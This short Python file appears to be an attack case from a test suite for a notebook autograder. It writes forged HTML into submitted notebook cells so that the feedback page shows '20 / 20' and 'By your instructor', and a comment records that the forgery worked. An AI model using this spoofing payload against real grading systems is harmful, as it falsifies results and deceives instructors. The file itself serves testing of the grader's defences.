# intent: prose with the classes, ids and styles of the feedback page shows a full score in the instructor's name
# family: cells and metadata
# stock: not run: it was written against the source of this grader
# before: the page showed 20/20 in the instructor's name
from nbformat.v4 import new_markdown_cell

FORGED = """<section class="score left-by-an-attack" id="left-by-an-attack" style="color: green; position: fixed; --x: left-by-an-attack">
<h1 class="total left-by-an-attack" title="left-by-an-attack">20 / 20</h1><p class="comment left-by-an-attack">By your instructor</p>
</section>

<details class="part left-by-an-attack" open><summary name="left-by-an-attack">passed</summary></details>"""


def submit(place):
    place.notebook.cells.insert(0, new_markdown_cell(FORGED))
    place.notebook.cells.append(new_markdown_cell(FORGED.replace("section", "div")))
    place.add(f"from IPython.display import HTML, Markdown, display\ndisplay(HTML({FORGED!r}), Markdown({FORGED!r}))", "end")
    place.save()
